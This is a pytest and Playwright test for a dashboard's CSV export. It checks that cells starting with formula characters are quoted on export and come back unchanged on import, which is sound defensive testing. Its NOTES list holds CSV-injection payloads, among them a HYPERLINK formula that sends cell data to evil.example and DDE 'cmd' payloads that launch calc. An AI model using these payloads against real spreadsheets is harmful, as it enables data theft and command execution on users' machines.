"""The dashboard's CSV export under attack (found by the attacker's pass): a text a record's
writer chose (`=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)`) went out as it was, and a spreadsheet
opening the file ran it as a formula. Such a cell now leaves after a quote, and importing the
exported file gives back the very texts that went out. In a real Chromium against a real
server (SQLite)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from roost import Client
from tests.conftest import ADMIN_PASSWORD, ADMIN_USERNAME, start_server, unique
from tests.dashboard.browser import chromium, require_chromium, sign_in

NOTES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
    "plain",
    "'plain with a quote",
    "a=b",
]


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Page, Client]]:
    require_chromium()
    server = start_server(tmp_path_factory.mktemp("dashboard-csv"))
    try:
        with chromium() as browser, Client(api_url=server.url) as client:
            tokens = client.auth.login(ADMIN_USERNAME, ADMIN_PASSWORD)
            sdk = client.auth.sign_in_with_token(tokens["access"])
            context = browser.new_context(viewport={"width": 1280, "height": 900})
            page = context.new_page()
            sign_in(page, server.url, ADMIN_USERNAME, ADMIN_PASSWORD)
            yield page, sdk
            context.close()
    finally:
        server.stop()


def _open_table(page: Page, table: str) -> None:
    page.get_by_role("link", name="Tables", exact=True).click()
    page.get_by_role("link", name=table, exact=True).click()
    expect(page.get_by_role("heading", level=1)).to_have_text(table)
    page.get_by_text("Import and export").click()


def test_exported_cells_never_start_a_formula_and_import_gives_them_back(
    page: tuple[Page, Client], tmp_path: Path
) -> None:
    browser_page, sdk = page
    source, target = unique("notes"), unique("copies")
    for table in (source, target):
        sdk.schema.add_table(
            table, [{"name": "note", "type": "text"}, {"name": "n", "type": "integer"}]
        )
    sdk.database.bulk_insert(source, [{"note": note, "n": -5} for note in NOTES])

    _open_table(browser_page, source)
    with browser_page.expect_download() as started:
        browser_page.get_by_role("button", name="Export CSV").click()
    exported = Path(started.value.path()).read_bytes().decode()  # CR kept as written
    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
    assert [row["n"] for row in rows] == ["-5"] * len(NOTES)  # numbers stay numbers
    for row in rows:
        assert row["note"][0] not in "=+-@\t\r", row["note"]
    assert rows[0]["note"] == "'" + NOTES[0]

    saved = tmp_path / "notes.csv"
    saved.write_text(exported, encoding="utf-8", newline="")
    _open_table(browser_page, target)
    form = browser_page.get_by_role("form", name="Import records")
    form.get_by_label("CSV or JSON file").set_input_files(saved)
    form.get_by_role("button", name="Check file").click()
    form.get_by_role("button", name="Import").click()
    expect(form.get_by_text(f"Imported {len(NOTES)} records.")).to_be_visible()
    copied = sdk.database.query(target).sort("id").get()
    assert [record["note"] for record in copied] == NOTES
